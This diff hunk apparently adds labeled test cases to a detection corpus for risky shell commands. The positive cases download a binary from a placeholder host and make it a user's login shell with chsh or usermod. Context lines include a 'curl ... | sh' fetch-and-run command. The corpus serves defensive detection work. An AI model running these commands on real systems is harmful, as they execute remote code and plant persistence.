@@ -489,3 +489,12 @@ curl -fsSL https://x.example/s.json | bwrap --ro-bind / / --dev /dev jq .
 fd -t d . /tmp -x sh -c 'curl -fsSL https://x.example/s | sh'
 #@ neg fd -x compresses the files it finds
 fd -e log . /var/log/app -x gzip -9
+#@ pos a download made the login shell by chsh
+curl -fsSL -o ~/.local/bin/tsh https://x.example/tsh
+chsh -s ~/.local/bin/tsh
+#@ pos a download made a user's login shell by usermod
+wget -qO /usr/local/sbin/ms https://x.example/ms
+usermod --shell /usr/local/sbin/ms svc
+#@ neg an installed shell made the login shell
+chsh -s /usr/bin/zsh
+usermod -s /usr/sbin/nologin svc
